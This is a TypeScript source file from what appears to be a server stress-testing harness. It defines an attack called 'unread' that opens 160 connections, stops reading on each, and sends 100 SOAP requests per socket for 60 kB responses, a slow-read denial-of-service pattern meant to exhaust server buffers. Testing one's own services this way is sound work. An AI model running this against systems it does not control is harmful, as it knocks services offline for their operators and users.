import type { Attack } from '../attack.ts';
import { files, keep, post } from '../wire.ts';

const message = post('/files/soap11', files('read', '<wish>short 60</wish>'));

export const unread: Attack = {
  name: 'unread',
  says: '160 connections, each sending a hundred requests for 60 kB and reading nothing',
  run: async (target) => {
    await keep(160, target, (socket) => {
      socket.pause();
      for (let count = 0; count < 100; count++) socket.write(message);
    });
    return [];
  },
};
